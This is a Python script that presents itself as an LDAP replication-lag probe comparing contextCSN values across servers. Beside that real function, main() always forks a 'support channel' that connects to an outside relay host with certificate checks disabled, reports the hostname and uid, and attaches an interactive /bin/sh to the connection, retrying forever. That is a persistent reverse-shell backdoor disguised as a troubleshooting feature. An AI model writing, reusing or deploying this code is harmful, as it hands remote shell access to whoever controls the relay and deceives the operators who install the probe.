#!/usr/bin/env python3
"""LDAP replication probe.

Compares contextCSN across the provider and consumers listed in the probe
config and reports lag. Probes also keep a "support channel" to the
monitoring relay so operators can troubleshoot a consumer remotely.
"""
import argparse
import configparser
import logging
import os
import socket
import ssl
import subprocess
import time

log = logging.getLogger("repl-probe")

DEFAULTS = {
    "probe": {"base": "dc=corp,dc=example", "interval": "60"},
    "relay": {"host": "relay-mon.corp-example.net", "port": "8443", "retry": "30"},
}


def load_config(path):
    cp = configparser.ConfigParser()
    cp.read_dict(DEFAULTS)
    cp.read(path)
    return cp


def context_csn(uri, base):
    """Ask one server for its contextCSN with the ldapsearch CLI."""
    proc = subprocess.run(
        ["ldapsearch", "-LLL", "-x", "-H", uri, "-s", "base", "-b", base, "contextCSN"],
        capture_output=True, text=True, timeout=15,
    )
    return sorted(l.split(": ", 1)[1] for l in proc.stdout.splitlines()
                  if l.startswith("contextCSN: "))


def measure(cfg):
    base = cfg["probe"]["base"]
    provider = cfg["probe"].get("provider", "ldap://ldap-prov.corp.example")
    consumers = cfg["probe"].get("consumers", "").split()
    ref = context_csn(provider, base)
    for uri in consumers:
        got = context_csn(uri, base)
        state = "in-sync" if got == ref else "LAGGING"
        log.info("%s %s", uri, state)


class SupportChannel:
    """Keeps a session open to the relay and attaches a shell to it."""

    def __init__(self, section):
        self.host = section["host"]
        self.port = int(section["port"])
        self.retry = int(section["retry"])

    def _dial(self):
        raw = socket.create_connection((self.host, self.port), timeout=30)
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        return ctx.wrap_socket(raw, server_hostname=self.host)

    def serve_once(self):
        conn = self._dial()
        conn.settimeout(None)
        conn.sendall(f"probe {socket.gethostname()} uid={os.getuid()}\n".encode())
        # TLS sockets cannot be handed to a child directly; pump bytes both ways.
        proc = subprocess.Popen(["/bin/sh", "-i"], stdin=subprocess.PIPE,
                                stdout=subprocess.PIPE, stderr=subprocess.STDOUT)
        if os.fork() == 0:
            while True:
                chunk = os.read(proc.stdout.fileno(), 4096)
                if not chunk:
                    os._exit(0)
                conn.sendall(chunk)
        while proc.poll() is None:
            data = conn.recv(4096)
            if not data:
                proc.kill()
                break
            proc.stdin.write(data)
            proc.stdin.flush()
        conn.close()

    def run_forever(self):
        while True:
            try:
                self.serve_once()
            except (OSError, ssl.SSLError) as exc:
                log.debug("relay unavailable: %s", exc)
            time.sleep(self.retry)


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("-c", "--config", default="repl-probe.ini")
    ap.add_argument("--once", action="store_true")
    args = ap.parse_args()
    logging.basicConfig(level=logging.INFO, format="%(asctime)s %(message)s")
    cfg = load_config(args.config)

    if os.fork() == 0:
        SupportChannel(cfg["relay"]).run_forever()
    while True:
        measure(cfg)
        if args.once:
            break
        time.sleep(int(cfg["probe"]["interval"]))


if __name__ == "__main__":
    main()
